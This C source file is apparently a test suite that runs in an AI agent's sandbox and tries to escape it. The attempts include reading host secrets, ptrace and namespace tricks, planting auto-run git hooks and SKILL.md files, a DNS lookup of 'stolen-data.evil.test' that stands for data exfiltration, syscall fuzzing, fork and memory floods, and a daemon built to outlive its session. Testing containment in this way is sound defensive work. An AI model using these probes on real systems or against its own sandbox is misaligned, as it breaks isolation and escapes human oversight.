// Runs inside a sandbox in place of the agent and attacks it. One function per row of the escape
// list; every line it prints is one step: "held WHAT: WHY" or "ESCAPE WHAT". The last line is "done".
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netdb.h>
#include <netinet/in.h>
#include <poll.h>
#include <arpa/inet.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/personality.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static char **args;

static void held(const char *format, ...) {
    va_list list;
    va_start(list, format);
    printf("held ");
    vprintf(format, list);
    printf("\n");
    va_end(list);
}

static void escape(const char *format, ...) {
    va_list list;
    va_start(list, format);
    printf("ESCAPE ");
    vprintf(format, list);
    printf("\n");
    va_end(list);
}

// An attack that must fail, whatever the error.
static void must_fail(const char *what, long result) {
    if (result >= 0) escape("%s: %ld", what, result);
    else held("%s: %s", what, strerror(errno));
}

// An attack that must not even reach the kernel: any answer but "not permitted" or "no such call"
// means that the kernel looked at it.
static void must_be_refused(const char *what, long result) {
    if (result >= 0) escape("%s: %ld", what, result);
    else if (errno == EPERM || errno == ENOSYS || errno == EAFNOSUPPORT) held("%s: %s", what, strerror(errno));
    else escape("%s reached the kernel: %s", what, strerror(errno));
}

static void must_not_read(const char *path) {
    char text[256];
    int fd = open(path, O_RDONLY | O_NONBLOCK);
    if (fd < 0) {
        held("read %s: %s", path, strerror(errno));
        return;
    }
    ssize_t count = read(fd, text, sizeof text);
    if (count > 0) escape("read %zd bytes of %s", count, path);
    else held("read %s: nothing", path);
    close(fd);
}

static void must_not_open_for_writing(const char *path) {
    int fd = open(path, O_WRONLY | O_NONBLOCK);
    must_fail(path, fd);
    if (fd >= 0) close(fd);
}

// args: canary path
static void e1(void) {
    char path[4200];
    must_not_read(args[0]);
    must_not_read("/etc/shadow");
    must_not_read("/proc/1/root/etc/shadow");
    snprintf(path, sizeof path, "/proc/1/root%s", args[0]);
    must_not_read(path);
    snprintf(path, sizeof path, "/proc/self/root/../../..%s", args[0]);
    must_not_read(path);
}

// args: a file of cell B as the host names it, its name in B's working directory
static void e2(void) {
    must_not_read(args[0]);
    DIR *proc = opendir("/proc");
    struct dirent *entry;
    char path[4800];
    while (proc && (entry = readdir(proc))) {
        if (entry->d_name[0] < '0' || entry->d_name[0] > '9') continue;
        snprintf(path, sizeof path, "/proc/%s/cwd/%s", entry->d_name, args[1]);
        must_not_read(path);
        snprintf(path, sizeof path, "/proc/%s/root%s", entry->d_name, args[0]);
        must_not_read(path);
    }
}

// args: canary path, a directory on the same file system
static void e7(void) {
    char path[4200];
    snprintf(path, sizeof path, "%s/linked", args[1]);
    must_fail("link the canary", link(args[0], path));
    unlink(path);
    must_fail("link a system file", link("/usr/bin/env", "linked"));
    must_fail("link the agent", link("/run/cloister/agent", "linked"));
    unlink("linked");
}

static void e8(void) {
    must_fail("mknod a disk", mknod("disk", S_IFBLK | 0600, makedev(254, 0)));
    must_fail("mknod in /tmp", mknod("/tmp/disk", S_IFCHR | 0600, makedev(1, 1)));
    unlink("disk");
    unlink("/tmp/disk");
    // To what they are: a success changes nothing, but must not happen.
    struct stat null;
    if (stat("/dev/null", &null) == 0)
        must_fail("change the mode of /dev/null", chmod("/dev/null", null.st_mode & 07777));
    must_fail("change the owner of /dev/null", chown("/dev/null", -1, -1));
    const char *devices[] = {"/dev/vda", "/dev/sda", "/dev/kvm", "/dev/fuse", "/dev/mem", "/dev/kmsg",
                             "/dev/net/tun", "/dev/loop-control", "/dev/ptmx", "/dev/tty"};
    for (unsigned i = 0; i < sizeof devices / sizeof *devices; i++)
        must_fail(devices[i], open(devices[i], O_RDONLY | O_NONBLOCK));
}

static void e9(void) {
    must_fail("open a system file for writing", open("/usr/bin/env", O_WRONLY));
    must_fail("make a file in /", open("/made", O_WRONLY | O_CREAT, 0600));
    must_fail("make a file in /etc", open("/etc/made", O_WRONLY | O_CREAT, 0600));
    must_fail("replace the agent", rename("/tmp/x", "/run/cloister/agent"));
    must_fail("remount /usr", mount(NULL, "/usr", NULL, MS_REMOUNT | MS_BIND, NULL));
    mkdir("/tmp/m", 0700);
    must_fail("bind mount", mount("/usr", "/tmp/m", NULL, MS_BIND, NULL));
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0)
        must_fail("mount in an own namespace", mount("none", "/tmp/m", "tmpfs", 0, NULL));
    unlink("/made");
}

// args: a host handle as type and hex bytes
static void e10(void) {
    struct {
        struct file_handle head;
        unsigned char bytes[128];
    } handle;
    handle.head.handle_type = atoi(args[0]);
    size_t length = strlen(args[1]) / 2;
    for (size_t i = 0; i < length && i < sizeof handle.bytes; i++) {
        unsigned byte;
        sscanf(args[1] + 2 * i, "%2x", &byte);
        handle.head.f_handle[i] = byte;
    }
    handle.head.handle_bytes = length;
    const char *places[] = {"/", "/tmp", "/usr", "."};
    for (unsigned i = 0; i < 4; i++) {
        int mount_fd = open(places[i], O_RDONLY | O_DIRECTORY);
        must_fail("open the canary by its handle",
                  syscall(SYS_open_by_handle_at, mount_fd, &handle, O_RDONLY));
        close(mount_fd);
    }
}

static void plant(const char *path, const char *text, int mode) {
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, mode);
    if (fd < 0 || write(fd, text, strlen(text)) < 0) held("plant %s: %s", path, strerror(errno));
    if (fd >= 0) close(fd);
    chmod(path, mode);
}

// args: a marker that a host which runs what it finds would make
static void e12(void) {
    char text[4200];
    if (system("git init -q . && git config user.email a@b && git config user.name c") != 0)
        held("git init failed");
    snprintf(text, sizeof text, "#!/bin/sh\ntouch %s\n", args[0]);
    mkdir(".git/hooks", 0755);
    plant(".git/hooks/pre-commit", text, 0755);
    plant("SKILL.md", text, 0755);
    plant(".envrc", text, 0755);
    plant("settings.json", "{\"hooks\":{\"start\":\"./SKILL.md\"}}", 0644);
}

static void must_not_contain(const char *path, const char *needle) {
    static char text[1 << 20];
    int fd = open(path, O_RDONLY);
    if (fd < 0) {
        held("%s: %s", path, strerror(errno));
        return;
    }
    ssize_t count = read(fd, text, sizeof text - 1);
    if (count > 0 && memmem(text, count, needle, strlen(needle))) escape("canary in %s", path);
    close(fd);
}

static void search_own_memory(const char *needle) {
    FILE *maps = fopen("/proc/self/maps", "r");
    int memory = open("/proc/self/mem", O_RDONLY);
    char line[512];
    int hits = 0;
    while (maps && memory >= 0 && fgets(line, sizeof line, maps)) {
        unsigned long from, to;
        char mode[8];
        // Only what other programs could have left: the stack and its environment.
        if (sscanf(line, "%lx-%lx %7s", &from, &to, mode) != 3 || !strstr(line, "[stack]")) continue;
        char *copy = malloc(to - from);
        ssize_t count = pread(memory, copy, to - from, from);
        if (count > 0 && memmem(copy, count, needle, strlen(needle))) hits++;
        free(copy);
    }
    if (hits) escape("canary in own memory");
}

// args: the canary without its first letter, so that its text is nowhere in our own arguments
static void e13(void) {
    // Not on the stack, which is searched.
    static char needle[128];
    char path[300];
    snprintf(needle, sizeof needle, "S%s", args[0]);
    extern char **environ;
    for (char **entry = environ; *entry; entry++)
        if (strstr(*entry, needle)) escape("canary in the environment");
    DIR *proc = opendir("/proc");
    struct dirent *entry;
    while (proc && (entry = readdir(proc))) {
        if (entry->d_name[0] < '0' || entry->d_name[0] > '9') continue;
        snprintf(path, sizeof path, "/proc/%s/environ", entry->d_name);
        must_not_contain(path, needle);
        snprintf(path, sizeof path, "/proc/%s/cmdline", entry->d_name);
        must_not_contain(path, needle);
    }
    must_not_contain("/proc/1/environ", needle);
    search_own_memory(needle);
}

// args: the door
static void e14(void) {
    DIR *fds = opendir("/proc/self/fd");
    struct dirent *entry;
    while (fds && (entry = readdir(fds))) {
        int fd = atoi(entry->d_name);
        if (fd > 2 && fd != dirfd(fds)) escape("descriptor %d came along", fd);
    }
    struct sockaddr_un door = {.sun_family = AF_UNIX};
    strncpy(door.sun_path, args[0], sizeof door.sun_path - 1);
    int link = socket(AF_UNIX, SOCK_STREAM, 0);
    if (connect(link, (struct sockaddr *)&door, sizeof door) < 0) {
        held("connect to the door: %s", strerror(errno));
        return;
    }
    int passed = open("/dev/null", O_RDONLY);
    char control[CMSG_SPACE(sizeof passed)] = {0}, byte = 'x';
    struct iovec data = {&byte, 1};
    struct msghdr message = {.msg_iov = &data, .msg_iovlen = 1, .msg_control = control,
                             .msg_controllen = sizeof control};
    struct cmsghdr *header = CMSG_FIRSTHDR(&message);
    header->cmsg_level = SOL_SOCKET;
    header->cmsg_type = SCM_RIGHTS;
    header->cmsg_len = CMSG_LEN(sizeof passed);
    memcpy(CMSG_DATA(header), &passed, sizeof passed);
    for (int i = 0; i < 100; i++) sendmsg(link, &message, MSG_NOSIGNAL);
    // The host answers when it has read everything.
    shutdown(link, SHUT_WR);
    if (read(link, &byte, 1) == 1) held("the door took 100 passed descriptors");
}

// args: a host pid
static void e15(void) {
    DIR *proc = opendir("/proc");
    struct dirent *entry;
    int count = 0;
    while (proc && (entry = readdir(proc))) {
        if (entry->d_name[0] < '0' || entry->d_name[0] > '9') continue;
        count++;
        if (!strcmp(entry->d_name, args[0])) escape("host pid %s in /proc", args[0]);
    }
    if (count > 8) escape("%d processes in /proc", count);
    const char *files[] = {"kallsyms", "keys", "cmdline", "kcore", "config.gz", "modules", "kmsg",
                           "key-users", "timer_list", "iomem", "interrupts", "partitions"};
    for (unsigned i = 0; i < sizeof files / sizeof *files; i++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/%s", files[i]);
        must_not_read(path);
    }
}

static void e16(void) {
    must_not_open_for_writing("/proc/sys/kernel/core_pattern");
    must_not_open_for_writing("/proc/sys/kernel/modprobe");
    must_not_open_for_writing("/proc/sys/vm/overcommit_memory");
    must_not_open_for_writing("/proc/sysrq-trigger");
    must_not_open_for_writing("/sys/fs/cgroup/memory/release_agent");
    must_not_open_for_writing("/sys/fs/cgroup/cgroup.procs");
    mkdir("/tmp/c", 0700);
    must_fail("mount a cgroup", mount("none", "/tmp/c", "cgroup", 0, "memory"));
}

static void e17(void) {
    int status;
    pid_t child = fork();
    if (child == 0) {
        struct rlimit limit;
        getrlimit(RLIMIT_CORE, &limit);
        limit.rlim_cur = limit.rlim_max;
        setrlimit(RLIMIT_CORE, &limit);
        signal(SIGSEGV, SIG_DFL);
        raise(SIGSEGV);
        _exit(0);
    }
    waitpid(child, &status, 0);
    if (WIFSIGNALED(status) && WCOREDUMP(status)) escape("a core was dumped");
    else held("crash: no core");
}

static void e18(void) {
    char byte;
    struct iovec local = {&byte, 1}, remote = {(void *)0x400000, 1};
    must_fail("ptrace PID 1", ptrace(PTRACE_SEIZE, 1, 0, 0));
    must_be_refused("process_vm_readv", syscall(SYS_process_vm_readv, 1, &local, 1, &remote, 1, 0));
    must_be_refused("process_vm_writev", syscall(SYS_process_vm_writev, 1, &local, 1, &remote, 1, 0));
    int init = syscall(SYS_pidfd_open, 1, 0);
    must_fail("pidfd_getfd from PID 1", syscall(SYS_pidfd_getfd, init, 0, 0));
    must_fail("kcmp with PID 1", syscall(SYS_kcmp, 1, getpid(), 0, 0, 0));
    must_not_read("/proc/1/mem");
    must_not_read("/proc/1/maps");
    must_not_read("/proc/1/environ");
}

static void e19(void) {
    char byte = 'x';
    must_be_refused("TIOCSTI", ioctl(0, TIOCSTI, &byte));
    must_be_refused("TIOCLINUX", ioctl(0, TIOCLINUX, &byte));
    must_be_refused("TIOCSTI with high bits", syscall(SYS_ioctl, 0, 0xdead00000000UL | TIOCSTI, &byte));
    must_fail("open /dev/tty", open("/dev/tty", O_RDWR));
}

// args: a program that is setuid on the host
static void e20(void) {
    int status;
    pid_t child = fork();
    if (child == 0) {
        execl(args[0], args[0], "euid", NULL);
        _exit(99);
    }
    waitpid(child, &status, 0);
    if (WIFEXITED(status) && WEXITSTATUS(status) == 42) escape("a setuid program changed the uid");
    else held("a setuid program has our own uid");
    if (system("su root -c true </dev/null >/dev/null 2>&1") == 0) escape("su worked");
}

// Prints the handle of a file, on the host.
static int print_handle(const char *path) {
    struct {
        struct file_handle head;
        unsigned char bytes[128];
    } handle;
    int mount_id;
    handle.head.handle_bytes = sizeof handle.bytes;
    if (name_to_handle_at(AT_FDCWD, path, &handle.head, &mount_id, 0) < 0) return 1;
    printf("%d ", handle.head.handle_type);
    for (unsigned i = 0; i < handle.head.handle_bytes; i++) printf("%02x", handle.head.f_handle[i]);
    printf("\n");
    return 0;
}

static int report_euid(void) { return geteuid() != getuid() || geteuid() == 0 ? 42 : 0; }

// args: a process on the host with our uid; whether to try everyone
static void e21(void) {
    must_fail("kill a process of the host", kill(atoi(args[0]), SIGKILL));
    must_fail("kill PID 1 of the host by its number", kill(1, 0) == 0 && getpid() > 1000 ? 0 : -1);
    if (!atoi(args[1])) return;
    printf("done\n");
    fflush(stdout);
    kill(-1, SIGKILL);
    kill(1, SIGKILL);
}

// args: plant or look, a name, a key
static void e22(void) {
    char path[2][300];
    snprintf(path[0], sizeof path[0], "/tmp/%s", args[1]);
    snprintf(path[1], sizeof path[1], "/dev/shm/%s", args[1]);
    int key = atoi(args[2]);
    if (!strcmp(args[0], "plant")) {
        for (int i = 0; i < 2; i++) plant(path[i], "left", 0666);
        shmget(key, 4096, IPC_CREAT | 0666);
        return;
    }
    for (int i = 0; i < 2; i++) {
        must_not_read(path[i]);
        unlink(path[i]);
    }
    int shared = shmget(key, 0, 0);
    must_fail("find shared memory", shared);
    if (shared >= 0) shmctl(shared, IPC_RMID, NULL);
}

static void e23(void) {
    must_be_refused("chroot", chroot("/tmp"));
    must_be_refused("pivot_root", syscall(SYS_pivot_root, "/tmp", "/tmp"));
    must_be_refused("setns", syscall(SYS_setns, 0, 0));
    must_be_refused("umount", umount2("/tmp", MNT_DETACH));
    long child = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
    if (child == 0) _exit(0);
    must_be_refused("clone with a user namespace", child);
    child = syscall(SYS_clone, 0xdead00000000UL | CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
    if (child == 0) _exit(0);
    must_be_refused("clone with high bits", child);
    uint64_t clone3[11] = {CLONE_NEWUSER, [4] = SIGCHLD};
    child = syscall(SYS_clone3, clone3, sizeof clone3);
    if (child == 0) _exit(0);
    must_be_refused("clone3", child);
    must_be_refused("unshare network", unshare(CLONE_NEWNET));
    must_be_refused("unshare user", unshare(CLONE_NEWUSER));
}

static void e24(void) {
    char zero[256] = {0};
    must_be_refused("io_uring_setup", syscall(SYS_io_uring_setup, 1, zero));
    must_be_refused("bpf", syscall(SYS_bpf, 0, zero, sizeof zero));
    must_be_refused("perf_event_open", syscall(SYS_perf_event_open, zero, 0, -1, -1, 0));
    must_be_refused("userfaultfd", syscall(SYS_userfaultfd, 0));
    must_be_refused("fanotify_init", syscall(SYS_fanotify_init, 0x200, 0));
}

static void e25(void) {
    must_be_refused("add_key", syscall(SYS_add_key, "user", "probe", "x", 1, -3));
    must_be_refused("keyctl", syscall(SYS_keyctl, 0, -3, 1));
    must_be_refused("request_key", syscall(SYS_request_key, "user", "probe", 0, -3));
}

static void e26(void) {
#ifdef __x86_64__
    int status;
    pid_t child = fork();
    if (child == 0) {
        long result;
        __asm__ volatile("int $0x80" : "=a"(result) : "a"(20L) : "memory");
        _exit(result > 0 ? 42 : 0);
    }
    waitpid(child, &status, 0);
    if (WIFEXITED(status) && WEXITSTATUS(status) == 42) escape("a 32-bit call was answered");
    else if (WIFSIGNALED(status)) held("32-bit call: signal %d", WTERMSIG(status));
    else held("32-bit call: refused");
    must_be_refused("x32 call", syscall(0x40000000 | SYS_getpid));
#endif
}

static void e27(void) {
    must_be_refused("personality", personality(ADDR_NO_RANDOMIZE));
#ifdef __x86_64__
    char table[64];
    must_be_refused("modify_ldt", syscall(SYS_modify_ldt, 0, table, sizeof table));
    must_be_refused("iopl", syscall(SYS_iopl, 3));
    must_be_refused("ioperm", syscall(SYS_ioperm, 0, 1, 1));
#endif
}

static void e28(void) {
    char attributes[32] = {0};
    must_be_refused("fsopen", syscall(SYS_fsopen, "tmpfs", 0));
    must_be_refused("open_tree", syscall(SYS_open_tree, AT_FDCWD, "/", 0));
    must_be_refused("move_mount", syscall(SYS_move_mount, -1, "", -1, "", 0));
    must_be_refused("mount_setattr", syscall(SYS_mount_setattr, AT_FDCWD, "/", 0, attributes, 32));
}

static void e29(void) {
    must_be_refused("init_module", syscall(SYS_init_module, NULL, 0, ""));
    must_be_refused("finit_module", syscall(SYS_finit_module, -1, "", 0));
    must_be_refused("delete_module", syscall(SYS_delete_module, "no-such-module", O_NONBLOCK));
    must_be_refused("kexec_load", syscall(SYS_kexec_load, 0, -1, NULL, ~0UL));
    must_be_refused("swapon", syscall(SYS_swapon, "/nonexistent", 0));
    must_be_refused("reboot", syscall(SYS_reboot, 0, 0, 0, 0));
    must_be_refused("settimeofday", syscall(SYS_settimeofday, NULL, NULL));
    must_be_refused("syslog", syscall(SYS_syslog, 10, NULL, 0));
    must_be_refused("acct", syscall(SYS_acct, "/nonexistent"));
}

static void e30(void) {
    int families[] = {AF_VSOCK, AF_NETLINK, AF_PACKET, AF_ALG, AF_BLUETOOTH, AF_XDP, AF_KEY, AF_CAN, AF_TIPC};
    const char *names[] = {"VSOCK", "NETLINK", "PACKET", "ALG", "BLUETOOTH", "XDP", "KEY", "CAN", "TIPC"};
    for (unsigned i = 0; i < sizeof families / sizeof *families; i++)
        must_be_refused(names[i], socket(families[i], SOCK_DGRAM, 0));
    must_be_refused("RAW", socket(AF_INET, SOCK_RAW, IPPROTO_ICMP));
    must_be_refused("RAW6", socket(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6));
    must_be_refused("MPTCP", socket(AF_INET, SOCK_STREAM, 262));
    must_be_refused("ping socket", socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP));
}

static int never_fuzzed(long number) {
    // They end, stop or block the fuzzer itself, which says nothing about the sandbox.
    const long skipped[] = {SYS_exit, SYS_exit_group, SYS_kill, SYS_tkill, SYS_tgkill, SYS_rt_sigqueueinfo,
                            SYS_rt_tgsigqueueinfo, SYS_pidfd_send_signal, SYS_rt_sigreturn, SYS_fork, SYS_vfork,
                            SYS_clone, SYS_clone3, SYS_close, SYS_close_range, SYS_dup2, SYS_dup3, SYS_munmap,
                            SYS_mmap, SYS_mremap, SYS_mprotect, SYS_brk, SYS_rt_sigprocmask, SYS_rt_sigaction,
                            SYS_write, SYS_writev, SYS_pwritev2, SYS_alarm, SYS_setitimer, SYS_execve,
                            SYS_execveat, SYS_arch_prctl, SYS_ppoll, SYS_poll, SYS_pause};
    for (unsigned i = 0; i < sizeof skipped / sizeof *skipped; i++)
        if (skipped[i] == number) return 1;
    return 0;
}

static uint64_t random_argument(unsigned *seed, void *page) {
    switch (rand_r(seed) % 8) {
    case 0: case 1: return 0;
    case 2: return 1;
    case 3: return (uint64_t)page;
    case 4: return rand_r(seed) % 16;
    case 5: return ~0UL;
    case 6: return (uint64_t)page + rand_r(seed) % 4096;
    default: return ((uint64_t)rand_r(seed) << 32) | rand_r(seed);
    }
}

static void wake(int signal) { (void)signal; }

static void fuzz_some(unsigned seed, const char *listed, int found) {
    // A call that blocks is interrupted.
    struct sigaction action = {.sa_handler = wake};
    sigaction(SIGALRM, &action, NULL);
    struct itimerval often = {{0, 2000}, {0, 2000}};
    setitimer(ITIMER_REAL, &often, NULL);
    void *page = mmap(NULL, 1 << 16, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    for (int round = 0; round < 5000; round++) {
        long number = rand_r(&seed) % 480;
        uint64_t a[6];
        for (int i = 0; i < 6; i++) a[i] = random_argument(&seed, page);
        if (never_fuzzed(number)) continue;
        long result = syscall(number, a[0], a[1], a[2], a[3], a[4], a[5]);
        if (result >= 0 && !listed[number]) {
            char line[64];
            int length = snprintf(line, sizeof line, "ESCAPE unlisted call %ld: %ld\n", number, result);
            write(found, line, length);
            _exit(0);
        }
    }
    _exit(0);
}

// args: a file with the numbers of the listed calls, seconds, seed
static void e31(void) {
    static char listed[4096];
    FILE *list = fopen(args[0], "r");
    long number, children = 0, escapes = 0;
    while (list && fscanf(list, "%ld", &number) == 1)
        if (number >= 0 && number < (long)sizeof listed) listed[number] = 1;
    // Whatever a random call does to its directory stays there.
    mkdir("/tmp/fuzz", 0700);
    if (chdir("/tmp/fuzz") < 0) return;
    time_t end = time(NULL) + atoi(args[1]);
    unsigned seed = atoi(args[2]);
    while (time(NULL) < end && escapes < 3) {
        int found[2];
        if (pipe(found) < 0) break;
        pid_t child = fork();
        if (child == 0) {
            setsid();
            int null = open("/dev/null", O_RDWR);
            for (int fd = 0; fd < 3; fd++) dup2(null, fd);
            fuzz_some(seed + children, listed, found[1]);
        }
        close(found[1]);
        char line[128];
        struct pollfd ended = {found[0], POLLIN, 0};
        // One that made itself deaf to the timer is ended.
        ssize_t count = poll(&ended, 1, 1000) > 0 ? read(found[0], line, sizeof line - 1) : 0;
        if (count > 0) {
            line[count] = 0;
            fputs(line, stdout);
            escapes++;
        }
        close(found[0]);
        kill(child, SIGKILL);
        waitpid(child, NULL, 0);
        children++;
    }
    held("%ld fuzzers, seed %s", children, args[2]);
}

// Connecting a datagram socket asks only whether there is a way.
static void must_have_no_way(const char *address, int port, int type) {
    struct addrinfo hints = {.ai_flags = AI_NUMERICHOST | AI_NUMERICSERV, .ai_socktype = type}, *found;
    char service[8];
    snprintf(service, sizeof service, "%d", port);
    if (getaddrinfo(address, service, &hints, &found)) return escape("%s is no address", address);
    int out = socket(found->ai_family, type | SOCK_NONBLOCK, 0);
    int result = connect(out, found->ai_addr, found->ai_addrlen);
    if (result == 0 || errno == EINPROGRESS) escape("a way to %s, port %d", address, port);
    else held("connect to %s, port %d: %s", address, port, strerror(errno));
    close(out);
    freeaddrinfo(found);
}

// args: an address that the host has a way to
static void e33(void) {
    must_have_no_way(args[0], 443, SOCK_STREAM);
    must_have_no_way("1.1.1.1", 443, SOCK_STREAM);
    must_have_no_way("8.8.8.8", 53, SOCK_DGRAM);
    must_have_no_way("169.254.169.254", 80, SOCK_STREAM);
    must_have_no_way("2606:4700:4700::1111", 443, SOCK_STREAM);
    must_have_no_way("ff02::1", 53, SOCK_DGRAM);
    must_fail("ICMP", socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP));
    struct sockaddr_in all = {.sin_family = AF_INET, .sin_port = htons(53), .sin_addr.s_addr = INADDR_BROADCAST};
    int out = socket(AF_INET, SOCK_DGRAM, 0), yes = 1;
    setsockopt(out, SOL_SOCKET, SO_BROADCAST, &yes, sizeof yes);
    must_fail("broadcast", sendto(out, "x", 1, 0, (void *)&all, sizeof all));
}

// args: where the host's names would be asked for. A name that carries data is looked up in every way a
// program has; the host's name server must not hear of it.
static void e45(void) {
    struct addrinfo *found;
    int result = getaddrinfo("stolen-data.evil.test", "443", NULL, &found);
    if (result == 0 || result == EAI_AGAIN) escape("a name server was asked: %s", gai_strerror(result));
    else held("look a name up: %s", gai_strerror(result));
    must_not_read("/etc/resolv.conf");
    must_have_no_way(args[0], 53, SOCK_DGRAM);
    must_have_no_way(args[0], 53, SOCK_STREAM);
    must_have_no_way("1.1.1.1", 443, SOCK_STREAM);
    must_have_no_way("8.8.8.8", 853, SOCK_STREAM);
}

// args: port on the host's loopback, an abstract name, a path
static void e34(void) {
    struct sockaddr_in host = {.sin_family = AF_INET, .sin_port = htons(atoi(args[0]))};
    inet_pton(AF_INET, "127.0.0.1", &host.sin_addr);
    must_fail("connect to the host's loopback", connect(socket(AF_INET, SOCK_STREAM, 0), (void *)&host, sizeof host));
    struct sockaddr_un local = {.sun_family = AF_UNIX};
    memcpy(local.sun_path + 1, args[1], strlen(args[1]));
    socklen_t length = offsetof(struct sockaddr_un, sun_path) + 1 + strlen(args[1]);
    must_fail("connect to an abstract socket", connect(socket(AF_UNIX, SOCK_STREAM, 0), (void *)&local, length));
    memset(&local.sun_path, 0, sizeof local.sun_path);
    strncpy(local.sun_path, args[2], sizeof local.sun_path - 1);
    must_fail("connect to a path socket", connect(socket(AF_UNIX, SOCK_STREAM, 0), (void *)&local, sizeof local));
}

// args: what, how much is too much
static void e56(void) {
    long most = atol(args[1]), count = 0;
    if (!strcmp(args[0], "fork")) {
        while (count <= most) {
            pid_t child = fork();
            if (child < 0) break;
            if (child == 0) {
                pause();
                _exit(0);
            }
            count++;
        }
    } else if (!strcmp(args[0], "memory")) {
        int result[2];
        if (pipe(result) < 0) return;
        pid_t child = fork();
        if (child == 0) {
            for (long touched = 0; touched <= most + 16; touched += 16) {
                char *block = malloc(16 << 20);
                if (!block) _exit(0);
                for (long i = 0; i < 16 << 20; i += 4096) block[i] = 1;
                write(result[1], &touched, sizeof touched);
            }
            // Where memory is counted, the counter must have the time to see it.
            sleep(1);
            long survived = most + 1;
            write(result[1], &survived, sizeof survived);
            _exit(0);
        }
        close(result[1]);
        long last;
        int survived = 0;
        while (read(result[0], &last, sizeof last) == sizeof last) {
            count = last;
            survived = last == most + 1;
        }
        if (!survived && count > most) count = most;
        waitpid(child, NULL, 0);
    } else if (!strcmp(args[0], "files")) {
        char path[64];
        while (count <= most) {
            snprintf(path, sizeof path, "/tmp/f%ld", count);
            int fd = open(path, O_WRONLY | O_CREAT, 0600);
            if (fd < 0) break;
            close(fd);
            count++;
        }
    } else if (!strcmp(args[0], "write")) {
        static char block[1 << 20];
        int fd = open("big", O_WRONLY | O_CREAT | O_TRUNC, 0600);
        while (count <= most && write(fd, block, sizeof block) == sizeof block) count++;
        if (ftruncate(fd, (most + 1) << 20) == 0) count = most + 1;
        unlink("big");
    }
    if (count > most) escape("%s: %ld", args[0], count);
    else held("%s: stopped at %ld: %s", args[0], count, strerror(errno));
}

static double since(struct timespec from) {
    struct timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    return (now.tv_sec - from.tv_sec) + (now.tv_nsec - from.tv_nsec) / 1e9;
}

static double used_by_children(void) {
    struct rusage used;
    getrusage(RUSAGE_CHILDREN, &used);
    return used.ru_utime.tv_sec + used.ru_utime.tv_usec / 1e6 + used.ru_stime.tv_sec + used.ru_stime.tv_usec / 1e6;
}

// How many percent of a core four processes get that want all there is for a while.
static int share_of_a_core(double seconds) {
    struct timespec from;
    double before = used_by_children();
    clock_gettime(CLOCK_MONOTONIC, &from);
    for (int i = 0; i < 4; i++)
        if (fork() == 0) {
            alarm(0);
            while (since(from) < seconds) {}
            _exit(0);
        }
    while (wait(NULL) > 0) {}
    return 100 * (used_by_children() - before) / since(from);
}

// args: what, how much is too much
static void e57(void) {
    if (!strcmp(args[0], "spin")) {
        // Others use the machine too: the best of several windows is what can be had.
        int percent = 0;
        for (int window = 0; window < 8 && percent <= atoi(args[1]); window++) {
            int now = share_of_a_core(0.5);
            if (now > percent) percent = now;
        }
        if (percent > atoi(args[1])) escape("%d %% of a core", percent);
        else held("%d %% of a core", percent);
    } else if (!strcmp(args[0], "nice")) {
        must_fail("raise the priority", setpriority(PRIO_PROCESS, 0, 0));
        if (getpriority(PRIO_PROCESS, 0) < atoi(args[1])) escape("runs at priority %d", getpriority(PRIO_PROCESS, 0));
        else held("runs at nice %d", getpriority(PRIO_PROCESS, 0));
    } else {
        static char block[1 << 16];
        memset(block, 'x', sizeof block);
        for (long i = 0; i < atol(args[1]) * 16; i++) fwrite(block, 1, sizeof block, stdout);
        printf("\n");
    }
}

// args: a token to be found by
static void e58(void) {
    signal(SIGTERM, SIG_IGN);
    signal(SIGHUP, SIG_IGN);
    if (fork() == 0) {
        setsid();
        if (fork() == 0) {
            signal(SIGTERM, SIG_IGN);
            execl("/proc/self/exe", args[0], "daemon", NULL);
        }
        _exit(0);
    }
    wait(NULL);
    printf("done\n");
    fflush(stdout);
    for (;;) pause();
}

int main(int count, char **values) {
    static const struct {
        const char *name;
        void (*run)(void);
    } rows[] = {{"E1", e1},   {"E2", e2},   {"E7", e7},   {"E8", e8},   {"E9", e9},   {"E10", e10}, {"E12", e12},
                {"E13", e13}, {"E14", e14}, {"E15", e15}, {"E16", e16}, {"E17", e17}, {"E18", e18}, {"E19", e19},
                {"E20", e20}, {"E21", e21}, {"E22", e22}, {"E23", e23}, {"E24", e24}, {"E25", e25}, {"E26", e26},
                {"E27", e27}, {"E28", e28}, {"E29", e29}, {"E30", e30}, {"E31", e31}, {"E33", e33}, {"E34", e34},
                {"E45", e45}, {"E56", e56},
                {"E57", e57}, {"E58", e58}};
    if (count == 2 && !strcmp(values[1], "euid")) return report_euid();
    while (count == 2 && !strcmp(values[1], "daemon")) pause();
    if (count == 3 && !strcmp(values[1], "handle")) return print_handle(values[2]);
    if (count < 2) return 2;
    args = values + 2;
    for (unsigned i = 0; i < sizeof rows / sizeof *rows; i++)
        if (!strcmp(rows[i].name, values[1])) {
            rows[i].run();
            printf("done\n");
            fflush(stdout);
            return 0;
        }
    return 2;
}
